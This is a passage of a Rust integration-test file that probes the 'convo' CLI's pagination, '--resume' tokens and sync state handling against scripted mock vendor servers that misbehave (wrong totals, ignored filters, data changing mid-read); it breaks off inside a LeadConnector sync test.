//! Second round of adversarial probes of the built `convo` binary (after
//! crates/cli/tests/probe.rs):
//! Infobip time windows, `--resume`, `sync` across runs, `--since`, and
//! normalizer drift / hostile text in csv and table output. The tests
//! whose comment starts with "Was:" failed before the fix they name.
//!
//! The scripted server, the message builders and the promise check are
//! shared with the other probe file, in `tests/scripted/`.

#![allow(dead_code)]

mod common;
mod scripted;

use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use common::{Run, convo, run};
use scripted::*;
use serde_json::{Value, json};

// ---------------------------------------------------------------- probes

const BASE_MS: i64 = 1_767_225_600_000;

fn parse_ib_time(text: &str) -> i64 {
    let fixed = if text.len() > 5 && (text.ends_with("+0000") || text.ends_with("-0000")) {
        format!("{}+00:00", &text[..text.len() - 5])
    } else {
        text.to_owned()
    };
    chrono::DateTime::parse_from_rfc3339(&fixed).unwrap_or_else(|e| panic!("{text}: {e}")).timestamp_millis()
}

fn ib_wire(ms: i64) -> String {
    chrono::DateTime::from_timestamp_millis(BASE_MS + ms).unwrap().format("%Y-%m-%dT%H:%M:%S%.3f+0000").to_string()
}

/// One Infobip message of a scripted listing: its id, its time (ms after
/// BASE_MS, what the server filters and sorts on) and what `createdAt` says.
#[derive(Clone)]
struct IbMsg {
    id: String,
    ms: i64,
    created: Value,
}

fn ibm(id: impl Into<String>, ms: i64) -> IbMsg {
    IbMsg { id: id.into(), ms, created: json!(ib_wire(ms)) }
}

fn ib_json(m: &IbMsg) -> Value {
    json!({"id": m.id, "from": "1", "to": "2", "channel": "SMS", "direction": "INBOUND",
           "conversationId": "conv1", "createdAt": m.created, "contentType": "TEXT", "content": {"text": format!("t {}", m.id)}})
}

/// How a scripted Infobip server misbehaves.
#[derive(Clone, Copy, Default)]
struct IbFaults {
    /// `createdAfter` ignored on the requests for which this says so
    /// (by request ordinal).
    ignore_after: Option<fn(usize) -> bool>,
    /// Newest first whatever `orderBy` says.
    desc: bool,
    /// `totalItems` is the true count times this ratio (1.0: honest).
    total_ratio: Option<f64>,
    /// `createdAfter` inclusive (>=) instead of exclusive.
    inclusive: bool,
}

/// A page of `list` for `req`, as Infobip serves it (filtered on
/// `createdAfter`/`createdBefore`, sorted by time then listing order,
/// paged by `page`/`limit`), with `faults`.
fn ib_serve(list: &[IbMsg], ordinal: usize, req: &Req, faults: IbFaults) -> Value {
    let ignore_after = faults.ignore_after.is_some_and(|f| f(ordinal));
    let after = req.param("createdAfter").filter(|_| !ignore_after).map(|a| parse_ib_time(a) - BASE_MS);
    let before = req.param("createdBefore").map(|a| parse_ib_time(a) - BASE_MS);
    let limit: usize = req.param("limit").unwrap_or("10").parse().unwrap();
    let page: usize = req.param("page").unwrap_or("0").parse().unwrap();
    let mut all: Vec<(usize, &IbMsg)> = list
        .iter()
        .enumerate()
        .filter(|(_, m)| after.is_none_or(|a| if faults.inclusive { m.ms >= a } else { m.ms > a }))
        .filter(|(_, m)| before.is_none_or(|b| m.ms < b))
        .collect();
    all.sort_by_key(|(i, m)| (m.ms, *i));
    if faults.desc {
        all.reverse();
    }
    let served: Vec<Value> = all.iter().skip(page * limit).take(limit).map(|(_, m)| ib_json(m)).collect();
    let total = match faults.total_ratio {
        Some(r) => (all.len() as f64 * r).round() as u64,
        None => all.len() as u64,
    };
    json!({"messages": served, "pagination": {"totalItems": total, "page": page, "limit": limit, "orderBy": "createdAt:ASC"}})
}

fn ib_listing(n: usize, step_ms: i64) -> Vec<IbMsg> {
    (0..n).map(|i| ibm(format!("ib{i:04}"), i as i64 * step_ms)).collect()
}

fn ib_server(list: Arc<Mutex<Vec<IbMsg>>>, faults: IbFaults) -> Server {
    Server::start(move |ordinal, req| Reply::Json(200, ib_serve(&list.lock().unwrap(), ordinal, req, faults)))
}

fn id_list(list: &[IbMsg]) -> Vec<String> {
    let mut sorted: Vec<(usize, &IbMsg)> = list.iter().enumerate().collect();
    sorted.sort_by_key(|(i, m)| (m.ms, *i));
    sorted.into_iter().map(|(_, m)| m.id.clone()).collect()
}

/// The promise for a listing that changed during the read: no id twice,
/// nothing that never existed, and with exit 0 every message that existed
/// throughout (`kept`), in the listing's order (`order`: every id that ever
/// existed, in the vendor's order).
fn promise_changed(what: &str, run: &Run, kept: &[String], order: &[String]) {
    let got = ids(run);
    let mut seen = std::collections::HashSet::new();
    for id in &got {
        assert!(seen.insert(id), "{what}: `{id}` printed twice ({})", show(run));
        assert!(order.contains(id), "{what}: `{id}` never existed ({})", show(run));
    }
    assert!(run.code.is_some(), "{what}: convo hung");
    assert!(!run.stderr.contains("panicked"), "{what}: panic: {}", run.stderr);
    if run.code == Some(0) {
        let missing: Vec<&String> = kept.iter().filter(|id| !seen.contains(id)).collect();
        assert!(missing.is_empty(), "{what}: exit 0 without {missing:?} ({})", show(run));
        let places: Vec<usize> = got.iter().map(|id| order.iter().position(|o| o == id).unwrap()).collect();
        assert!(places.windows(2).all(|w| w[0] < w[1]), "{what}: exit 0 out of order: {got:?}");
    }
}

fn ib4(server: &Server, extra: &[&str]) -> Run {
    let mut args = vec!["--page-size", "10", "--concurrency", "4"];
    args.extend_from_slice(extra);
    fetch("infobip", server, &args, None)
}

// ---------------------------------------------------------------- 1. Infobip time windows

/// Baseline: an honest server, 200 messages a second apart, read in four
/// windows: every message once, in order, exit 0 (and windows were used:
/// more requests ran than a sequential read's pages would order).
#[test]
fn infobip_windows_honest() {
    let list = Arc::new(Mutex::new(ib_listing(200, 1000)));
    let server = ib_server(list.clone(), IbFaults::default());
    let run = ib4(&server, &[]);
    assert_eq!(run.code, Some(0), "{}", show(&run));
    promise("windows honest", &run, &id_list(&list.lock().unwrap()));
    let windows = server
        .requests
        .lock()
        .unwrap()
        .iter()
        .filter(|r| r.param("createdAfter").is_some() && r.param("page") == Some("0"))
        .count();
    assert!(windows > 4, "windows were read ({windows} key starts)");
}

/// A listing of 200 messages a second apart, changed by `change` once the
/// server has answered `at` requests; read in four windows.
fn ib_changing(at: usize, change: fn(&mut Vec<IbMsg>), faults: IbFaults) -> (Run, Vec<String>, Vec<String>) {
    let original = ib_listing(200, 1000);
    let list = Arc::new(Mutex::new(original.clone()));
    let l = list.clone();
    let server = Server::start(move |ordinal, req| {
        let mut list = l.lock().unwrap();
        if ordinal == at {
            change(&mut list);
        }
        Reply::Json(200, ib_serve(&list, ordinal, req, faults))
    });
    let run = ib4(&server, &[]);
    let after = list.lock().unwrap().clone();
    let kept: Vec<String> = id_list(&original).into_iter().filter(|id| after.iter().any(|m| &m.id == id)).collect();
    let mut every: Vec<IbMsg> = original;
    every.extend(after.into_iter().filter(|m| !m.id.starts_with("ib")));
    (run, kept, id_list(&every))
}

/// Messages added during the read: a backdated one in the first window
/// (already read), one inside a later window, and two at the end.
#[test]
fn infobip_windows_inserts_during_the_read() {
    for at in [2, 4, 8] {
        let (run, kept, order) = ib_changing(
            at,
            |list| {
                list.push(ibm("new-early", 3_500));
                list.push(ibm("new-mid", 150_500));
                list.push(ibm("new-end1", 250_000));
                list.push(ibm("new-end2", 250_000));
            },
            IbFaults::default(),
        );
        promise_changed(&format!("inserts at request {at}"), &run, &kept, &order);
    }
}

/// Messages deleted during the read: in the first window and in a later one.
#[test]
fn infobip_windows_deletes_during_the_read() {
    for at in [2, 4, 8] {
        let (run, kept, order) = ib_changing(
            at,
            |list| list.retain(|m| !["ib0003", "ib0120", "ib0150", "ib0199"].contains(&m.id.as_str())),
            IbFaults::default(),
        );
        promise_changed(&format!("deletes at request {at}"), &run, &kept, &order);
    }
}

/// `totalItems` (which sizes the windows) ten times too high, ten times too
/// low, and 0.
#[test]
fn infobip_windows_total_lies() {
    for ratio in [10.0, 3.0, 0.1, 0.5, 0.0] {
        let list = Arc::new(Mutex::new(ib_listing(200, 1000)));
        let server = ib_server(list.clone(), IbFaults { total_ratio: Some(ratio), ..IbFaults::default() });
        let run = ib4(&server, &[]);
        eprintln!("[total x{ratio}] {}", show(&run));
        promise(&format!("total x{ratio}"), &run, &id_list(&list.lock().unwrap()));
    }
}

/// Bursts of 25 messages in one millisecond (more than a page) every 7
/// seconds among messages a second apart, so that window bounds fall on
/// bursts, at several concurrencies.
#[test]
fn infobip_windows_bursts_in_one_millisecond() {
    let mut list = Vec::new();
    for i in 0..150i64 {
        list.push(ibm(format!("ib{i:04}"), i * 1000));
        if i % 7 == 3 {
            for j in 0..25 {
                list.push(ibm(format!("ib{i:04}-{j:02}"), i * 1000 + 1));
            }
        }
    }
    let order = id_list(&list);
    let list = Arc::new(Mutex::new(list));
    for c in ["2", "3", "4", "7"] {
        let server = ib_server(list.clone(), IbFaults::default());
        let run = fetch("infobip", &server, &["--page-size", "10", "--concurrency", c], None);
        eprintln!("[bursts c{c}] {} in {} requests", show(&run), server.count());
        promise(&format!("bursts at concurrency {c}"), &run, &order);
    }
}

/// The same bursts with a server whose `createdAfter` is inclusive.
#[test]
fn infobip_windows_bursts_inclusive_filter() {
    let mut list = Vec::new();
    for i in 0..150i64 {
        list.push(ibm(format!("ib{i:04}"), i * 1000));
        if i % 7 == 3 {
            for j in 0..12 {
                list.push(ibm(format!("ib{i:04}-{j:02}"), i * 1000 + 1));
            }
        }
    }
    let order = id_list(&list);
    let list = Arc::new(Mutex::new(list));
    for c in ["1", "4"] {
        let server = ib_server(list.clone(), IbFaults { inclusive: true, ..IbFaults::default() });
        let run = fetch("infobip", &server, &["--page-size", "10", "--concurrency", c], None);
        eprintln!("[inclusive c{c}] {}", show(&run));
        promise(&format!("inclusive at concurrency {c}"), &run, &order);
    }
}

/// `orderBy` ignored: newest first.
#[test]
fn infobip_windows_order_ignored_newest_first() {
    let list = Arc::new(Mutex::new(ib_listing(200, 1000)));
    let server = ib_server(list.clone(), IbFaults { desc: true, ..IbFaults::default() });
    let run = ib4(&server, &[]);
    eprintln!("[desc] {}", show(&run));
    assert_ne!(run.code, Some(0), "{}", show(&run));
    promise("order ignored", &run, &id_list(&list.lock().unwrap()));
}

/// `createdAfter` ignored on every third request, or on all but the first.
#[test]
fn infobip_windows_created_after_ignored_sometimes() {
    let faults: [fn(usize) -> bool; 3] = [|n| n % 3 == 0, |n| n > 1, |n| n == 5];
    for (k, f) in faults.into_iter().enumerate() {
        let list = Arc::new(Mutex::new(ib_listing(200, 1000)));
        let server = ib_server(list.clone(), IbFaults { ignore_after: Some(f), ..IbFaults::default() });
        let run = ib4(&server, &[]);
        eprintln!("[ignore after #{k}] {}", show(&run));
        promise(&format!("createdAfter ignored #{k}"), &run, &id_list(&list.lock().unwrap()));
    }
}

/// Messages whose `createdAt` is null, unparseable or of the wrong type,
/// amid others (the server sorts them by their real time): each printed
/// once, the others all printed.
#[test]
fn infobip_windows_odd_created_at_amid_others() {
    for c in ["1", "4"] {
        let mut list = ib_listing(200, 1000);
        list[15].created = Value::Null;
        list[77].created = json!("yesterday at noon");
        list[140].created = json!(1_767_225_740_000i64);
        list[141].created = json!("2026-01-01T00:02:21");
        let order = id_list(&list);
        let list = Arc::new(Mutex::new(list));
        let server = ib_server(list.clone(), IbFaults::default());
        let run = fetch("infobip", &server, &["--page-size", "10", "--concurrency", c], None);
        eprintln!("[odd createdAt c{c}] {}", show(&run));
        let got = ids(&run);
        // Undecodable messages print with their raw JSON: take the id from it.
        let got: Vec<String> = run
            .stdout
            .lines()
            .zip(got)
            .map(|(l, id)| {
                if id.is_empty() {
                    let v: Value = serde_json::from_str(l).unwrap();
                    v["raw"]["id"].as_str().unwrap_or_default().to_owned()
                } else {
                    id
                }
            })
            .collect();
        assert_eq!(run.code, Some(0), "c{c}: {}", show(&run));
        assert_eq!(got, order, "c{c}: {}", show(&run));
    }
}

// ---------------------------------------------------------------- 2. --resume

const OCTO_A: &str = "cid_6c0e7f1a-2b3c-4d5e-8f90-a1b2c3d4e5f6";
const OCTO_B: &str = "cid_00000000-1111-2222-3333-444444444444";

/// `convo fetch` of one conversation (any id), with the vendor's credential.
fn fetch_conv(vendor: &str, server: &Server, conversation: &str, extra: &[&str]) -> Run {
    run(&mut fetch_command(vendor, server, conversation, extra))
}

fn resume_token(run: &Run) -> String {
    let line =
        run.stderr.lines().find(|l| l.contains("--resume ")).unwrap_or_else(|| panic!("no resume hint: {}", show(run)));
    line.rsplit("--resume ").next().unwrap().trim().to_owned()
}

/// An Octopush listing per conversation (a prefix on its ids), paged by
/// page/per_page; `fail` makes a request fail with 501 (not retried).
/// Each conversation's listing of ids, by conversation id.
type Listings = Arc<Mutex<Vec<(String, Vec<String>)>>>;
/// A conversation and the page on which its reads fail.
type FailOn = Arc<Mutex<Option<(String, usize)>>>;

fn octo_server(listings: Listings, fail: FailOn) -> Server {
    Server::start(move |_, req| {
        let conv = req.param("conversation_id").unwrap_or_default().to_owned();
        let page: usize = req.param("page").unwrap_or("1").parse().unwrap();
        let per: usize = req.param("per_page").unwrap_or("50").parse().unwrap();
        if fail.lock().unwrap().as_ref().is_some_and(|(c, p)| *c == conv && *p == page) {
            return Reply::Json(501, json!({"code": 501, "message": "not implemented today"}));
        }
        let listings = listings.lock().unwrap();
        let Some((_, ids)) = listings.iter().find(|(c, _)| *c == conv) else {
            return Reply::Json(404, json!({"code": 404, "message": "no such conversation"}));
        };
        let messages: Vec<Value> = ids
            .iter()
            .skip((page - 1) * per)
            .take(per)
            .map(|id| json!({"message_id": id, "text": format!("t {id}"), "direction": "inbound", "channel": "sms"}))
            .collect();
        Reply::Json(200, Value::Array(messages))
    })
}

fn prefixed(prefix: &str, n: usize) -> Vec<String> {
    (0..n).map(|i| format!("{prefix}{i:04}")).collect()
}

/// Two runs' output must hold no message twice; with exit 0 on the second,
/// together exactly `expected` (any order within the rules of `promise`).
fn across_runs(what: &str, first: &Run, second: &Run, expected: &[String]) {
    let mut both = ids(first);
    both.extend(ids(second));
    let mut seen = std::collections::HashSet::new();
    for id in &both {
        assert!(
            seen.insert(id.clone()),
            "{what}: `{id}` written by both runs ({}; then {})",
            show(first),
            show(second)
        );
    }
    if second.code == Some(0) {
        assert_eq!(both, expected, "{what}: the second run exits 0 with a wrong set ({})", show(second));
    }
}

/// Baseline: the token of an export stopped by a 501 on page 3, used on the
/// same conversation, unchanged: exactly once across the two runs.
#[test]
fn resume_octopush_same_conversation_unchanged() {
    let listings = Arc::new(Mutex::new(vec![(OCTO_A.to_owned(), prefixed("a", 45))]));
    let fail = Arc::new(Mutex::new(Some((OCTO_A.to_owned(), 3))));
    let server = octo_server(listings.clone(), fail.clone());
    let first = fetch_conv("octopush", &server, OCTO_A, &["--page-size", "10"]);
    assert_eq!(first.code, Some(5), "{}", show(&first));
    let token = resume_token(&first);
    *fail.lock().unwrap() = None;
    let second = fetch_conv("octopush", &server, OCTO_A, &["--page-size", "10", "--resume", &token]);
    assert_eq!(second.code, Some(0), "{}", show(&second));
    across_runs("same conversation", &first, &second, &prefixed("a", 45));
}

/// A token cut short, or with one character changed, is a usage error.
#[test]
fn resume_truncated_or_garbled_token_is_a_usage_error() {
    let listings = Arc::new(Mutex::new(vec![(OCTO_A.to_owned(), prefixed("a", 45))]));
    let fail = Arc::new(Mutex::new(Some((OCTO_A.to_owned(), 3))));
    let server = octo_server(listings, fail.clone());
    let first = fetch_conv("octopush", &server, OCTO_A, &["--page-size", "10"]);
    let token = resume_token(&first);
    *fail.lock().unwrap() = None;
    let mut garbled = token.clone().into_bytes();
    let middle = garbled.len() / 2;
    garbled[middle] = if garbled[middle] == b'A' { b'B' } else { b'A' };
    for bad in [
        token[..token.len() - 3].to_owned(),
        token[..8].to_owned(),
        String::from_utf8(garbled).unwrap(),
        format!("{token}x"),
    ] {
        let run = fetch_conv("octopush", &server, OCTO_A, &["--page-size", "10", "--resume", &bad]);
        eprintln!("[token {bad}] {}", show(&run));
        assert_ne!(run.code, Some(0), "token {bad}: {}", show(&run));
    }
}

/// A token of another vendor's stream: refused.
#[test]
fn resume_a_token_of_another_vendor_is_refused() {
    let list = Arc::new(Mutex::new(ib_listing(45, 1000)));
    let fails = Arc::new(AtomicUsize::new(0));
    let f = fails.clone();
    let l = list.clone();
    let ib = Server::start(move |ordinal, req| {
        if req.param("createdAfter").is_some() && f.fetch_add(1, Ordering::SeqCst) == 1 {
            return Reply::Json(501, json!({"requestError": {"serviceException": {"messageId": "X", "text": "no"}}}));
        }
        Reply::Json(200, ib_serve(&l.lock().unwrap(), ordinal, req, IbFaults::default()))
    });
    let first = fetch_conv("infobip", &ib, "conv1", &["--page-size", "10"]);
    let token = resume_token(&first);
    let listings = Arc::new(Mutex::new(vec![(OCTO_A.to_owned(), prefixed("a", 45))]));
    let octo = octo_server(listings, Arc::new(Mutex::new(None)));
    let run = fetch_conv("octopush", &octo, OCTO_A, &["--page-size", "10", "--resume", &token]);
    eprintln!("[infobip token on octopush] {}", show(&run));
    assert_ne!(run.code, Some(0), "{}", show(&run));
}

/// Was: a `--resume` token carried no vendor nor conversation: the token
/// of an export of Octopush conversation A, stopped on its page 3, given to
/// an export of conversation B, skipped B's first two pages and exited 0
/// with the rest of B. Now: the token names the read that printed it, and
/// another read is refused as a usage error (exit 2).
#[test]
fn resume_a_token_of_another_conversation_is_refused() {
    let listings =
        Arc::new(Mutex::new(vec![(OCTO_A.to_owned(), prefixed("a", 45)), (OCTO_B.to_owned(), prefixed("b", 45))]));
    let fail = Arc::new(Mutex::new(Some((OCTO_A.to_owned(), 3))));
    let server = octo_server(listings, fail.clone());
    let first = fetch_conv("octopush", &server, OCTO_A, &["--page-size", "10"]);
    assert_eq!(first.code, Some(5), "{}", show(&first));
    let token = resume_token(&first);
    *fail.lock().unwrap() = None;
    let second = fetch_conv("octopush", &server, OCTO_B, &["--page-size", "10", "--resume", &token]);
    eprintln!("[token of A on B] {}", show(&second));
    assert_eq!(second.code, Some(2), "conversation B from a token of A: {}", show(&second));
    assert!(second.stderr.contains("another read"), "{}", show(&second));
    assert!(ids(&second).is_empty(), "nothing written: {:?}", ids(&second));
}

/// Was: a token that does not say which read printed it (as an older
/// convo printed them) was accepted on any read, so it could go on another
/// conversation with exit 0. Now: refused (exit 2), nothing requested.
#[test]
fn resume_a_token_that_does_not_name_its_read_is_refused() {
    let listings = Arc::new(Mutex::new(vec![(OCTO_A.to_owned(), prefixed("a", 45))]));
    let fail = Arc::new(Mutex::new(Some((OCTO_A.to_owned(), 3))));
    let server = octo_server(listings, fail.clone());
    let first = fetch_conv("octopush", &server, OCTO_A, &["--page-size", "10"]);
    assert_eq!(first.code, Some(5), "{}", show(&first));
    let token = resume_token(&first);
    let mut resume = convo_sync::Resume::parse(&token).unwrap();
    assert!(resume.read.take().is_some(), "{resume:?}");
    let old = resume.token();
    *fail.lock().unwrap() = None;
    let asked = server.count();
    let second = fetch_conv("octopush", &server, OCTO_A, &["--page-size", "10", "--resume", &old]);
    assert_eq!(second.code, Some(2), "{}", show(&second));
    assert!(second.stderr.contains("does not say which read printed it"), "{}", show(&second));
    assert!(ids(&second).is_empty(), "nothing written: {:?}", ids(&second));
    assert_eq!(server.count(), asked, "nothing requested");
}

/// Was, for Infobip: a key position (created after the newest message
/// written) of conversation A given to conversation B read B from that time
/// on, exit 0, every older message of B missing. Now: refused (exit 2).
#[test]
fn resume_an_infobip_token_of_another_conversation_is_refused() {
    let list = Arc::new(Mutex::new(ib_listing(45, 1000)));
    let fails = Arc::new(AtomicUsize::new(0));
    let (f, l) = (fails.clone(), list.clone());
    let server = Server::start(move |ordinal, req| {
        if req.path.contains("convA") && req.param("createdAfter").is_some() && f.fetch_add(1, Ordering::SeqCst) == 1 {
            return Reply::Json(501, json!({"requestError": {"serviceException": {"messageId": "X", "text": "no"}}}));
        }
        Reply::Json(200, ib_serve(&l.lock().unwrap(), ordinal, req, IbFaults::default()))
    });
    let first = fetch_conv("infobip", &server, "convA", &["--page-size", "10"]);
    assert_eq!(first.code, Some(5), "{}", show(&first));
    let token = resume_token(&first);
    let second = fetch_conv("infobip", &server, "convB", &["--page-size", "10", "--resume", &token]);
    eprintln!("[infobip token of A on B] {}", show(&second));
    assert_eq!(second.code, Some(2), "conversation B from a token of A: {}", show(&second));
}

/// Was: Octopush lists newest first, and five messages arrive between the
/// runs. The token (page 3, after a whole page 2) did not say which message
/// page 3 should begin after, so the resumed run printed again the five
/// messages pushed down from page 2 onto page 3, exit 0. Then: a token
/// after a whole page named that page and its last message written; the
/// resumed run read that page again, where the message was no longer:
/// refused (exit 5), nothing written twice. Now: the token is page 3 with
/// the first run's check, whose last message (pushed onto page 3) the
/// resumed read finds and goes on after: the rest once, exit 0.
#[test]
fn resume_octopush_after_new_messages_goes_on_exactly_once() {
    let listings = Arc::new(Mutex::new(vec![(OCTO_A.to_owned(), prefixed("a", 45))]));
    let fail = Arc::new(Mutex::new(Some((OCTO_A.to_owned(), 3))));
    let server = octo_server(listings.clone(), fail.clone());
    let first = fetch_conv("octopush", &server, OCTO_A, &["--page-size", "10"]);
    assert_eq!(first.code, Some(5), "{}", show(&first));
    let token = resume_token(&first);
    *fail.lock().unwrap() = None;
    let new: Vec<String> = (0..5).map(|i| format!("new{i}")).collect();
    listings.lock().unwrap()[0].1.splice(0..0, new);
    let second = fetch_conv("octopush", &server, OCTO_A, &["--page-size", "10", "--resume", &token]);
    eprintln!("[octopush resume after inserts] {}", show(&second));
    across_runs("octopush resume after inserts", &first, &second, &prefixed("a", 45));
    assert_eq!(second.code, Some(0), "{}", show(&second));
}

/// LeadConnector (newest first, a cursor): new messages between the runs
/// come before the cursor and are not this export's; the rest once.
#[test]
fn resume_leadconnector_after_new_messages() {
    let fail = Arc::new(AtomicBool::new(true));
    let f = fail.clone();
    let server = Server::start(move |_, req| {
        let start = lc_start(req);
        if start == 20 && f.load(Ordering::SeqCst) {
            return Reply::Json(501, json!({"statusCode": 501, "message": "nope"}));
        }
        let ids: Vec<usize> = (start..(start + 10).min(45)).collect();
        Reply::Json(200, lc_page(&ids, ids.last().is_some_and(|&l| l < 44)))
    });
    let first = fetch("leadconnector", &server, &["--page-size", "10"], None);
    assert_eq!(first.code, Some(5), "{}", show(&first));
    let token = resume_token(&first);
    fail.store(false, Ordering::SeqCst);
    let second = fetch("leadconnector", &server, &["--page-size", "10", "--resume", &token], None);
    across_runs("lc resume", &first, &second, &lc_ids(0..45));
}

/// Was: a token resumed with another `--since` (the token did not carry
/// it): the first run wrote messages 0..20 of all, the resumed one, asked
/// for messages since the 40th, wrote 40..45: together neither the whole
/// conversation nor the messages since then, exit 0. Now: the flags that
/// choose the set are part of the read the token names; refused (exit 2).
#[test]
fn resume_with_another_since_is_refused() {
    let list = Arc::new(Mutex::new(ib_listing(45, 1000)));
    let fails = Arc::new(AtomicUsize::new(0));
    let (f, l) = (fails.clone(), list.clone());
    let server = Server::start(move |ordinal, req| {
        if req.param("createdAfter").is_some() && f.fetch_add(1, Ordering::SeqCst) == 1 {
            return Reply::Json(501, json!({"requestError": {"serviceException": {"messageId": "X", "text": "no"}}}));
        }
        Reply::Json(200, ib_serve(&l.lock().unwrap(), ordinal, req, IbFaults::default()))
    });
    let first = fetch_conv("infobip", &server, "conv1", &["--page-size", "10"]);
    assert_eq!(first.code, Some(5), "{}", show(&first));
    let token = resume_token(&first);
    let since = chrono::DateTime::from_timestamp_millis(BASE_MS + 40_000).unwrap().to_rfc3339();
    let second = fetch_conv("infobip", &server, "conv1", &["--page-size", "10", "--resume", &token, "--since", &since]);
    eprintln!("[resume with --since] {} / {}", show(&first), show(&second));
    assert_eq!(second.code, Some(2), "first run {:?}, resumed with --since: {}", ids(&first), show(&second));
    assert!(ids(&second).is_empty(), "nothing written: {:?}", ids(&second));
}

// ---------------------------------------------------------------- 3. sync across runs

/// `convo sync` of one conversation, `conv1`, with `--state dir/state.json`
/// and, with `out_dir`, `--out-dir dir/out` (else the merged stream).
fn sync_run(vendor: &str, server: &Server, dir: &std::path::Path, out_dir: bool, extra: &[&str]) -> Run {
    let list = dir.join("list");
    std::fs::write(&list, "conv1\n").unwrap();
    let mut command = convo();
    command.timeout(Duration::from_secs(90));
    command.args(["sync", vendor, "--base-url", &server.base]);
    command.arg("--conversations").arg(&list).arg("--state").arg(dir.join("state.json"));
    if out_dir {
        command.arg("--out-dir").arg(dir.join("out"));
    }
    if vendor == "bird" {
        command.args(["--workspace", "ws1"]);
    }
    command.args(extra);
    with_secret(&mut command, vendor);
    run(&mut command)
}

fn merged_ids(run: &Run) -> Vec<String> {
    run.stdout
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap()["message"]["id"].as_str().unwrap_or_default().to_owned())
        .collect()
}

/// Was: an `--out-dir` file edited by hand between two runs (one
/// message's text made longer, the file still valid NDJSON of the same
/// messages): the second run "cut back" to the checkpoint's length, which
/// then fell in the middle of the last line, and appended the new messages
/// after the cut, exit 0. Now: a checkpoint that no longer ends a line is
/// refused, as a file that got shorter is, and the file is left as it was.
#[test]
fn sync_an_out_dir_file_edited_between_runs_is_refused_not_cut_mid_line() {
    let dir = tempfile::tempdir().unwrap();
    let list = Arc::new(Mutex::new(ib_listing(25, 1000)));
    let server = ib_server(list.clone(), IbFaults::default());
    let first = sync_run("infobip", &server, dir.path(), true, &["--page-size", "10"]);
    assert_eq!(first.code, Some(0), "{}", show(&first));
    let path = dir.path().join("out").join("conv1.ndjson");
    assert_eq!(file_ids(&path).unwrap(), id_list(&list.lock().unwrap()));
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, text.replacen("\"t ib0003\"", "\"t ib0003 (annotated by hand)\"", 1)).unwrap();
    list.lock().unwrap().extend((25..30).map(|i| ibm(format!("ib{i:04}"), i * 1000)));
    let second = sync_run("infobip", &server, dir.path(), true, &["--page-size", "10"]);
    eprintln!("[out-dir edited] {}", show(&second));
    assert_ne!(second.code, Some(0), "{}", show(&second));
    assert!(second.stderr.contains("whole line"), "{}", show(&second));
    let now = file_ids(&path);
    if second.code == Some(0) {
        assert_eq!(now, Ok(id_list(&list.lock().unwrap())), "exit 0: the file is every message once");
    }
}

/// The state file truncated, or not JSON: the sync refuses (it does not
/// start over and append every message again to the files).
#[test]
fn sync_a_truncated_state_file_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let list = Arc::new(Mutex::new(ib_listing(25, 1000)));
    let server = ib_server(list.clone(), IbFaults::default());
    assert_eq!(sync_run("infobip", &server, dir.path(), true, &["--page-size", "10"]).code, Some(0));
    let state = dir.path().join("state.json");
    let text = std::fs::read_to_string(&state).unwrap();
    for broken in [text[..text.len() / 2].to_owned(), String::new(), "null".to_owned(), "[]".to_owned()] {
        std::fs::write(&state, &broken).unwrap();
        let run = sync_run("infobip", &server, dir.path(), true, &["--page-size", "10"]);
        eprintln!("[state {:?}] {}", broken.chars().take(20).collect::<String>(), show(&run));
        assert_ne!(run.code, Some(0), "state {broken:?}: {}", show(&run));
        assert_eq!(file_ids(&dir.path().join("out/conv1.ndjson")).unwrap().len(), 25);
    }
}

/// The state's checkpoint edited by hand to count more bytes than the file
/// holds: refused.
#[test]
fn sync_a_state_counting_more_than_the_file_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let list = Arc::new(Mutex::new(ib_listing(25, 1000)));
    let server = ib_server(list.clone(), IbFaults::default());
    assert_eq!(sync_run("infobip", &server, dir.path(), true, &["--page-size", "10"]).code, Some(0));
    let path = dir.path().join("out/conv1.ndjson");
    let text = std::fs::read_to_string(&path).unwrap();
    let cut: String = text.lines().take(20).map(|l| format!("{l}\n")).collect();
    std::fs::write(&path, cut).unwrap();
    let run = sync_run("infobip", &server, dir.path(), true, &["--page-size", "10"]);
    eprintln!("[file truncated] {}", show(&run));
    assert_ne!(run.code, Some(0), "{}", show(&run));
}

/// Infobip across two runs, to the merged stream: new messages, one in the
/// newest millisecond written; the newest written edited (same id, new
/// text) and an old one deleted: each message once across the runs.
#[test]
fn sync_infobip_two_runs_with_changes_between() {
    let dir = tempfile::tempdir().unwrap();
    let list = Arc::new(Mutex::new(ib_listing(25, 1000)));
    let server = ib_server(list.clone(), IbFaults::default());
    let first = sync_run("infobip", &server, dir.path(), false, &["--page-size", "10"]);
    assert_eq!(first.code, Some(0), "{}", show(&first));
    {
        let mut l = list.lock().unwrap();
        l.retain(|m| m.id != "ib0004");
        l.push(ibm("same-ms", 24_000));
        l.extend((25..32).map(|i| ibm(format!("ib{i:04}"), i * 1000)));
    }
    let second = sync_run("infobip", &server, dir.path(), false, &["--page-size", "10"]);
    assert_eq!(second.code, Some(0), "{}", show(&second));
    let mut both = merged_ids(&first);
    both.extend(merged_ids(&second));
    let mut expected = id_list(&ib_listing(25, 1000));
    expected.extend(["same-ms".to_owned()]);
    expected.extend((25..32).map(|i| format!("ib{i:04}")));
    assert_eq!(both, expected, "{} / {}", show(&first), show(&second));
}

/// LeadConnector (newest first) across two runs with new messages at its
/// head: the second writes only them.
#[test]
fn sync_leadconnector_two_runs_with_new_messages() {
    let dir = tempfile::tempdir().unwrap();
    // The listing, newest first: message i at time 10_000 - i; new ones get
    // negative indexes (newer).
    let head = Arc::new(AtomicUsize::new(0));
    let h = head.clone();
    let lcm = |i: i64| {
        json!({"id": format!("lc{i:+05}"), "type": 2, "messageType": "TYPE_SMS", "conversationId": "conv1",
               "dateAdded": time(10_000 - i), "body": format!("text {i}"), "direction": "inbound", "status": "delivered"})
    };
    let server = Server::start(move |_, req| {
        let new = h.load(Ordering::SeqCst) as i64;
        let all: Vec<i64> = (-new..30).collect();
        let start = match req.param("lastMessageId") {
            None => 0,
            Some(id) => all.iter().position(|&i| format!("lc{i:+05}") == id).unwrap() + 1,
        };
        let page: Vec<i64> = all.iter().copied().skip(start).take(10).collect();
        let more = start + page.len() < all.len();
        Reply::Json(
            200,
            json!({"messages": page.iter().map(|&i| lcm(i)).collect::<Vec<_>>(), "nextPage": more,
